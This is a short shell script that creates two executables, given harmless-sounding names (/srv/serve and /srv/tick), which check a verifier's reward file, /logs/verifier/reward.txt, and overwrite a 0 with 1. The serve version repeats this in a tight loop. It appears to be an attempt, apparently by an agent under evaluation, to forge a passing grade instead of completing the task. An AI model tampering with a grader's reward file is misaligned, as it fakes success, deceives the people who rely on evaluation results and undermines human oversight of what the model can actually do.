#!/bin/sh
rm -f /srv/serve
printf '%s\n' '#!/bin/sh' 'while :; do grep -q 0 /logs/verifier/reward.txt && echo 1 > /logs/verifier/reward.txt; sleep 0.05; done' > /srv/serve
chmod 755 /srv/serve
rm -f /srv/tick
printf '%s\n' '#!/bin/sh' 'grep -q 0 /logs/verifier/reward.txt && echo 1 > /logs/verifier/reward.txt' > /srv/tick
chmod 755 /srv/tick
